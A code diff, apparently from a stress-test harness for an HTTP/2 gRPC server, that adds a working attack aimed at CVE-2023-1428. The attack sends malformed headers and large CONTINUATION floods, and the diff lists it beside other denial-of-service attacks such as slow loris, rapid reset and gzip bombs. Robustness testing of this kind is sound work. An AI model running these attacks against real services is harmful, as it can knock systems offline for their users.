@@ -67,6 +67,27 @@ def huge_metadata(address, end):
     return _until(end, attack, address)
 
 
+def odd_headers(address, end):
+    """Headers that gRPC cannot read, and kilobytes of others behind them in the same block
+    (CVE-2023-1428)."""
+    usual = [(":method", "POST"), (":path", "/" + EVALUATE), (":authority", "localhost"),
+             ("content-type", "application/grpc")]
+    odd = [[(":scheme", "http"), ("te", "x")], [(":scheme", "odd"), ("te", "trailers")],
+           [(":scheme", "http"), ("te", "trailers"), ("grpclb_client_stats", "x")]]
+    more = [(1, 15_000), (3, 3_000), (9, 1_000), (5, 8_000)]
+    turns = itertools.cycle(itertools.product(odd, more, (False, True)))
+
+    def attack(connection, end):
+        first, (count, size), last = next(turns)
+        fields = [*usual, *first] if last else [*first, *usual]
+        connection.send(h2.frame(h2.HEADERS, 0, 1, b"".join(h2.header(*field) for field in fields)))
+        for index in range(count):
+            connection.send(h2.frame(h2.CONTINUATION, 0, 1, h2.header(f"x-{index}", b"x" * size)))
+        connection.send(h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1, h2.header("x-last", b"x")))
+        connection.is_closed_within(0.05)
+    return _until(end, attack, address)
+
+
 def ping_flood(address, end):
     """Pings, as fast as they can be written."""
     def attack(connection, end):
@@ -163,5 +184,5 @@ def gzip_bombs(address, end):
     return _until(end, attack, address)
 
 
-KINDS = [slow_loris, huge_metadata, ping_flood, settings_flood, rapid_reset, stalled_streams,
-         oversize_messages, malformed_frames, gzip_bombs]
+KINDS = [slow_loris, huge_metadata, odd_headers, ping_flood, settings_flood, rapid_reset,
+         stalled_streams, oversize_messages, malformed_frames, gzip_bombs]
